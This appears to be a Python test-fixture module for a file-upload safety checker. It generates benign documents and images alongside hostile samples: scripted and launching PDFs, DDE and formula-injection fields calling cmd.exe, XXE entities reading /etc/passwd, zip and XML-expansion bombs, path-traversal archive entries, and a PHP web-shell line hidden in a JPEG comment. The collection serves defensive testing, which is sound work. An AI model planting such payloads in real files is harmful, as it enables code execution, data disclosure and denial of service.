"""Files as strangers send them, made here: good ones of every kind, and hostile ones with the reason they must meet.

`GOOD` and `HOSTILE` are name -> a function that makes the bytes. The hostile ones come with their reason; `DEFUSED`
are hostile and taken, because what is kept of them no longer holds what was hostile: `is_harmless` says so.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
import pikepdf
import typst
from PIL import Image, PngImagePlugin

from encircle.foundations.files.parsing.refusals import MOST_BYTES, MOST_PAGES, Why

PLACE = "50.7236"  # what a camera knew
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006"
WML = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def typeset(words: str = "A letter about nothing.") -> bytes:
    return typst.compile(words.encode(), format="pdf")


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **saving: object) -> bytes:
    """A PDF of one page, with something done to it."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(595, 842))
        change(document)
        written = io.BytesIO()
        document.save(written, **saving)
    return written.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name("/Action"), S=pikepdf.Name(f"/{kind}"), **more)


def on_opening(kind: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action(kind, **more)

    return change


def with_a_file_inside(document: pikepdf.Pdf) -> None:
    document.attachments["run.exe"] = b"MZ"


def with_media(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/RichMedia"), Rect=[0, 0, 9, 9])]
    )


def with_an_active_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(document, b"<xdp/>"), Fields=[])


def with_a_script_nobody_leads_to(document: pikepdf.Pdf) -> None:
    document.make_indirect(pikepdf.Dictionary(Deep=[pikepdf.Dictionary(A=action("JavaScript", JS="app.alert(1)"))]))
    document.Root.Kept = document.objects[-1]


def with_a_plain_form(document: pikepdf.Pdf) -> None:
    """Boxes to tick, as probation's own forms have."""
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[])
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name("/Fit")])


def with_a_link(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9],
                A=action("URI", URI="https://www.gov.uk/"),
            )
        ]
    )  # fmt: skip


def with_content_elsewhere(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = pikepdf.Stream(document, b"", F="/etc/passwd")


def with_too_many_pages(document: pikepdf.Pdf) -> None:
    for _ in range(MOST_PAGES):
        document.add_blank_page()


def spelled_otherwise() -> bytes:
    """The name of the script's action, written so that a search for it finds nothing."""
    return pdf(on_opening("JavaScript", JS="app.alert(1)")).replace(b"/JavaScript", b"/J#61vaScript")


def archive(parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return written.getvalue()


def paragraphs(*lines: str) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def word(
    body: str = paragraphs("Dear colleague,", "He attends each week."),
    *,
    parts: dict[str, bytes | str] | None = None,
    relations: str = "",
    types: str = "",
    main: str = f"{CT}.document.main+xml",
    before: str = "",
) -> bytes:
    """A Word file as small as one can be, with something added."""
    return archive(
        {
            "[Content_Types].xml": (
                f'<?xml version="1.0"?><Types xmlns="{PKG}/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
            ),
            "_rels/.rels": (
                f'<?xml version="1.0"?><Relationships xmlns="{PKG}/relationships">'
                f'<Relationship Id="r1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'
            ),
            "word/_rels/document.xml.rels": (
                f'<?xml version="1.0"?><Relationships xmlns="{PKG}/relationships">{relations}</Relationships>'
            ),
            "word/document.xml": (
                f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WML}"><w:body>{body}</w:body></w:document>'
            ),
            **(parts or {}),
        }
    )


def asked(words: str) -> str:
    """A piece of a field."""
    return f"<w:r><w:instrText>{words}</w:instrText></w:r>"


def relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="x9" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def override(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


VBA = override("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
SHEET = '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
OLE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 50 + '"><!ENTITY c "' + "&b;" * 50 + '">'
    '<!ENTITY d "' + "&c;" * 50 + '">]>'
)


def excel(name: str = "Sheet", cell: object = "Attendance") -> bytes:
    book, written = openpyxl.Workbook(), io.BytesIO()
    book.active.title = name
    book.active.append([cell, 12, "of 14"])
    book.save(written)
    return written.getvalue()


def excel_with(part: str, content: str, kind: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(excel())) as known:
        parts = {name: known.read(name) for name in known.namelist()}
    types = parts["[Content_Types].xml"].decode().replace("</Types>", override(part, kind) + "</Types>")
    return archive(parts | {"[Content_Types].xml": types, part: content})


def bomb() -> bytes:
    return word(parts={"word/media.xml": b"<a>" + b" " * 400_000_000 + b"</a>"})


def bomb_that_lies() -> bytes:
    """It says of itself that it is small."""
    made = bytearray(word(parts={"word/media.xml": b"<a>" + b" " * 200_000_000 + b"</a>"}))
    true, small = struct.pack("<L", 200_000_007), struct.pack("<L", 400_000)
    return bytes(made).replace(true, small)


def overlapping() -> bytes:
    """Many names for the same packed bytes: each part lies in the one before."""
    made = archive({f"word/{number}.xml": b"<a>" + b" " * 500_000 + b"</a>" for number in range(40)})
    start = made.index(b"PK\x01\x02")
    directory = bytearray(made[start:])
    place = 0
    while (place := directory.find(b"PK\x01\x02", place)) >= 0:
        directory[place + 42 : place + 46] = struct.pack("<L", 0)
        place += 46
    whole = word()
    return made[:start] + bytes(directory) if len(whole) else made


def locked_archive() -> bytes:
    made = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = 0
        while (place := made.find(mark, place)) >= 0:
            made[place + offset] |= 1
            place += 4
    return bytes(made)


def picture(kind: str, size: tuple[int, int] = (40, 30), **saving: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, (20, 90, 60)).save(written, kind, **saving)
    return written.getvalue()


def photograph() -> bytes:
    """As a telephone takes it: with place, time and camera, lying on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x010E] = 6, "InventedPhone", f"at {PLACE}"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (50.0, 43.0, 25.0)
    written = io.BytesIO()
    Image.new("RGB", (40, 30), (20, 90, 60)).save(written, "JPEG", exif=exif, comment=f"at {PLACE}".encode())
    return written.getvalue()


def two_pictures() -> bytes:
    """As some telephones send them: a second picture behind the first."""
    written = io.BytesIO()
    first, second = Image.new("RGB", (40, 30)), Image.new("RGB", (40, 30), "white")
    first.save(written, "MPO", save_all=True, append_images=[second])
    return written.getvalue()


def in_four_colours() -> bytes:
    written = io.BytesIO()
    Image.new("CMYK", (40, 30)).save(written, "JPEG")
    return written.getvalue()


def drawing_with_words() -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", f"taken at {PLACE}")
    return picture("PNG", pnginfo=said)


def huge_picture() -> bytes:
    """Ten thousand million dots in two hundred bytes."""
    head = struct.pack(">LLBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))

    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


GOOD: dict[str, Callable[[], bytes]] = {
    "letter.pdf": typeset,
    "form to tick.pdf": lambda: pdf(with_a_plain_form),
    "with a link.pdf": lambda: pdf(with_a_link),
    "packed.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "letter.docx": word,
    "with a link.docx": lambda: word(relations=relation("hyperlink", "https://www.gov.uk/", outside=True)),
    "attendance.xlsx": excel,
    "with sums.xlsx": lambda: excel(cell="=SUM(B1:B1)"),
    "with a page number.docx": lambda: word(f"<w:p>{asked('PAGE')}</w:p>"),
    "with a link in it.docx": lambda: word(f"<w:p>{asked('HYPERLINK https://x.example/link')}</w:p>"),
    "two pictures.jpg": two_pictures,
    "for print.jpg": in_four_colours,
    "photograph.jpg": photograph,
    "PHOTO.JPEG": lambda: picture("JPEG"),
    "drawing.png": drawing_with_words,
    "note.txt": lambda: "He said: “see you on Tuesday”.\r\n".encode(),
    "old note.txt": lambda: "caf\xe9 at three".encode("cp1252"),
    "from another computer.txt": lambda: "a note".encode("utf-16"),
    "list.csv": lambda: b"day,came\n2026-01-05,yes\n,-3\n",
}


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    why: Why


def _cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


HOSTILE: dict[str, Hostile] = {
    "empty.pdf": Hostile(lambda: b"", Why.EMPTY),
    "only blanks.txt": Hostile(lambda: b" \n\t", Why.EMPTY),
    "huge.txt": Hostile(lambda: b"a" * (MOST_BYTES + 1), Why.TOO_LARGE),
    # Wrong endings, and what is none of ours.
    "program.exe": Hostile(lambda: b"MZ\x90\0\x03\0\0\0", Why.UNKNOWN_KIND),
    "program.pdf": Hostile(lambda: b"MZ\x90\0\x03\0\0\0", Why.UNKNOWN_KIND),
    "picture.pdf": Hostile(lambda: picture("PNG"), Why.WRONG_ENDING),
    "letter.jpg": Hostile(typeset, Why.WRONG_ENDING),
    "letter.xlsx": Hostile(word, Why.WRONG_ENDING),
    "letter.docm": Hostile(word, Why.WRONG_ENDING),
    "letter.pdf.exe": Hostile(typeset, Why.WRONG_ENDING),
    "letter\u202efdp.exe": Hostile(typeset, Why.WRONG_ENDING),
    "no ending": Hostile(typeset, Why.WRONG_ENDING),
    "archive.zip": Hostile(lambda: archive({"a.txt": "a"}), Why.UNKNOWN_KIND),
    "moving.gif": Hostile(lambda: picture("GIF"), Why.UNKNOWN_KIND),
    "phone.heic": Hostile(lambda: b"\0\0\0\x18ftypheic\0\0\0\0", Why.APPLE_PICTURE),
    "page.html": Hostile(lambda: b"<!DOCTYPE html><script>alert(1)</script>", Why.WEB_PAGE),
    "page.txt": Hostile(lambda: b"\xef\xbb\xbf <SCRIPT>alert(1)</SCRIPT>", Why.WEB_PAGE),
    "drawing.txt": Hostile(lambda: b'<svg onload="alert(1)"/>', Why.WEB_PAGE),
    "bytes.txt": Hostile(lambda: b"text\0\x01\x02", Why.UNKNOWN_KIND),
    "old.doc": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Why.OLD_OFFICE),
    "locked.docx": Hostile(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), Why.PASSWORD
    ),
    # PDF.
    "locked.pdf": Hostile(lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), Why.PASSWORD),
    "locked against printing.pdf": Hostile(lambda: pdf(encryption=pikepdf.Encryption(owner="a")), Why.PASSWORD),
    "script.pdf": Hostile(lambda: pdf(on_opening("JavaScript", JS="app.alert(1)")), Why.SCRIPT),
    "script packed away.pdf": Hostile(
        lambda: pdf(
            on_opening("JavaScript", JS="app.alert(1)"), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        Why.SCRIPT,
    ),
    "script spelled otherwise.pdf": Hostile(spelled_otherwise, Why.SCRIPT),
    "script deep inside.pdf": Hostile(lambda: pdf(with_a_script_nobody_leads_to), Why.SCRIPT),
    "script behind the end.pdf": Hostile(
        lambda: pdf().replace(b"trailer", b"99 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer"), Why.SCRIPT
    ),
    "launch.pdf": Hostile(lambda: pdf(on_opening("Launch", F="cmd.exe")), Why.STARTS_PROGRAM),
    "another file.pdf": Hostile(lambda: pdf(on_opening("GoToR", F="other.pdf")), Why.STARTS_PROGRAM),
    "file inside.pdf": Hostile(lambda: pdf(with_a_file_inside), Why.FILES_INSIDE),
    "film.pdf": Hostile(lambda: pdf(with_media), Why.MEDIA_INSIDE),
    "sends itself.pdf": Hostile(lambda: pdf(on_opening("SubmitForm", F="https://x.example")), Why.ACTIVE_FORM),
    "living form.pdf": Hostile(lambda: pdf(with_an_active_form), Why.ACTIVE_FORM),
    "content elsewhere.pdf": Hostile(lambda: pdf(with_content_elsewhere), Why.LINKED),
    "something before.pdf": Hostile(lambda: b"<html>\n" + typeset(), Why.TWO_IN_ONE),
    "a line before.pdf": Hostile(lambda: b"hello\n" + typeset(), Why.TWO_IN_ONE),
    "archive behind.pdf": Hostile(lambda: typeset() + archive({"run.exe": b"MZ"}), Why.TWO_IN_ONE),
    "page behind.pdf": Hostile(lambda: typeset() + b"<script>alert(1)</script>", Why.TWO_IN_ONE),
    "archive within.pdf": Hostile(
        lambda: b"%PDF-1.7\n" + archive({"run.exe": b"MZ"})[:-2] + struct.pack("<H", 6) + b"\n%%EOF", Why.TWO_IN_ONE
    ),
    "link to a script.pdf": Hostile(lambda: pdf(on_opening("URI", URI="javascript:alert(1)")), Why.LINKED),
    "link to a file.pdf": Hostile(lambda: pdf(on_opening("URI", URI="file:///run.exe")), Why.LINKED),
    "long.pdf": Hostile(lambda: pdf(with_too_many_pages), Why.TOO_MANY_PAGES),
    "cut.pdf": Hostile(lambda: _cut(typeset()), Why.BROKEN),
    "nothing in it.pdf": Hostile(lambda: b"%PDF-1.7\n%%EOF", Why.BROKEN),
    # Word and Excel.
    "macros.docm": Hostile(
        lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), Why.MACROS
    ),
    "macros.docx": Hostile(
        lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml", parts={"word/vbaProject.bin": b"V"},
                     types=VBA), Why.MACROS
    ),
    "macros hidden.docx": Hostile(
        lambda: word(
            parts={"word/vbaProject.bin": b"V"}, types=VBA, relations=relation("vbaProject", "vbaProject.bin")
        ),
        Why.MACROS,
    ),
    "macros renamed.docx": Hostile(
        lambda: word(parts={"word/settings2.xml": b"V"}, types=VBA.replace("vbaProject.bin", "settings2.xml")),
        Why.MACROS,
    ),
    "file inside.docx": Hostile(
        lambda: word(parts={"word/embeddings/oleObject1.bin": b"MZ"}, types=OLE), Why.ACTIVE_CONTENT
    ),
    "sheet inside.docx": Hostile(
        lambda: word(parts={"word/embeddings/book.xlsx": excel()},
                     types=SHEET),
        Why.ACTIVE_CONTENT,
    ),
    "control.docx": Hostile(
        lambda: word(parts={"word/activeX/activeX1.xml": "<a/>"},
                     types=override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
        Why.ACTIVE_CONTENT,
    ),
    "unknown part.docx": Hostile(lambda: word(parts={"word/run.exe": b"MZ"}), Why.ACTIVE_CONTENT),
    "page inside.docx": Hostile(
        lambda: word(parts={"word/chunk.html": b"<script>"}, relations=relation("aFChunk", "chunk.html"),
                     types='<Default Extension="html" ContentType="text/html"/>'),
        Why.ACTIVE_CONTENT,
    ),
    "template elsewhere.docx": Hostile(
        lambda: word(relations=relation("attachedTemplate", "https://x.example/t.dotm", outside=True)), Why.LINKED
    ),
    "picture elsewhere.docx": Hostile(
        lambda: word(relations=relation("image", "https://x.example/beacon.png", outside=True)), Why.LINKED
    ),
    "link to a file.docx": Hostile(
        lambda: word(relations=relation("hyperlink", "file://server/run.exe", outside=True)), Why.LINKED
    ),
    "calls a program.docx": Hostile(
        lambda: word('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
        Why.STARTS_PROGRAM,
    ),
    "calls a program in pieces.docx": Hostile(
        lambda: word(f"<w:p>{asked('D')}{asked('&#68;')}{asked('E c:')}</w:p>"),
        Why.STARTS_PROGRAM,
    ),
    "calls a program simply.docx": Hostile(
        lambda: word('<w:p><w:fldSimple w:instr="DDE excel c"/></w:p>'), Why.STARTS_PROGRAM
    ),
    "takes a sheet along.docx": Hostile(
        lambda: word(f"<w:p>{asked('LINK Excel.Sheet.12 x.xlsx')}</w:p>"), Why.LINKED
    ),
    "fetches a picture.docx": Hostile(
        lambda: word('<w:p><w:r><w:instrText>INCLUDEPICTURE "https://x.example/b"</w:instrText></w:r></w:p>'),
        Why.LINKED,
    ),
    "entity.docx": Hostile(lambda: word(before=ENTITY, body=paragraphs("&amp;x;")), Why.ENTITIES),
    "entities upon entities.docx": Hostile(lambda: word(before=LAUGHS), Why.ENTITIES),
    "entity in a relation.docx": Hostile(
        lambda: word(parts={"word/_rels/other.xml.rels": ENTITY + "<Relationships/>"}), Why.ENTITIES
    ),
    "bomb.docx": Hostile(bomb, Why.BOMB),
    "bomb that lies.docx": Hostile(bomb_that_lies, Why.BROKEN),
    "overlapping.docx": Hostile(overlapping, Why.BOMB),
    "locked parts.docx": Hostile(locked_archive, Why.PASSWORD),
    "way out.docx": Hostile(lambda: word(parts={"../../etc/cron.d/x": "x"}), Why.TWO_IN_ONE),
    "from the root.docx": Hostile(lambda: word(parts={"/etc/cron.d/x": "x"}), Why.TWO_IN_ONE),
    "twice the same.docx": Hostile(lambda: word(parts={"word/Document.xml": "<a/>"}), Why.TWO_IN_ONE),
    "something before.docx": Hostile(lambda: b"PK\x03\x04" + b"\0" * 30 + word(), Why.TWO_IN_ONE),
    "something behind.docx": Hostile(lambda: word() + b"<script>", Why.TWO_IN_ONE),
    "cut.docx": Hostile(lambda: _cut(word()), Why.BROKEN),
    "not xml.docx": Hostile(lambda: word("<w:p>"), Why.BROKEN),
    "another sheet.xlsx": Hostile(
        lambda: excel_with("xl/externalLinks/externalLink1.xml", "<a/>",
                           "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        Why.LINKED,
    ),
    "asks a database.xlsx": Hostile(
        lambda: excel_with("xl/connections.xml", "<a/>",
                           "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"),
        Why.LINKED,
    ),
    "calls a program.xlsx": Hostile(lambda: excel(cell="=cmd|'/C calc'!A0"), Why.STARTS_PROGRAM),
    "asks the web.xlsx": Hostile(lambda: excel(cell='=WEBSERVICE("https://x.example")'), Why.STARTS_PROGRAM),
    "old macros.xlsx": Hostile(
        lambda: excel_with("xl/macrosheets/sheet9.xml", "<a/>", "application/vnd.ms-excel.macrosheet+xml"), Why.MACROS
    ),
    # Pictures, text.
    "huge.png": Hostile(huge_picture, Why.TOO_MANY_PIXELS),
    "cut.jpg": Hostile(lambda: _cut(photograph()), Why.BROKEN),
    "only a head.png": Hostile(lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 40, Why.BROKEN),
    "calls a program.csv": Hostile(lambda: b"day,note\n1,=cmd|' /C calc'!A0\n", Why.STARTS_PROGRAM),
}  # fmt: skip

# Hostile, and taken: a picture is painted anew, and what was hidden in it stays behind.
DEFUSED: dict[str, Callable[[], bytes]] = {
    "photograph.jpg": photograph,
    "drawing.png": drawing_with_words,
    "archive behind.jpg": lambda: photograph() + archive({"run.exe": b"MZ"}),
    "page behind.png": lambda: drawing_with_words() + b"<script>alert(1)</script>",
    "page in a comment.jpg": lambda: picture("JPEG", comment=b"<?php system($_GET['c']); ?>"),
}
LEFT_BEHIND = (PLACE.encode(), b"InventedPhone", b"run.exe", b"<script>", b"<?php", b"Exif", b"tEXt")


def is_harmless(kept: bytes) -> bool:
    return not any(words in kept for words in LEFT_BEHIND)
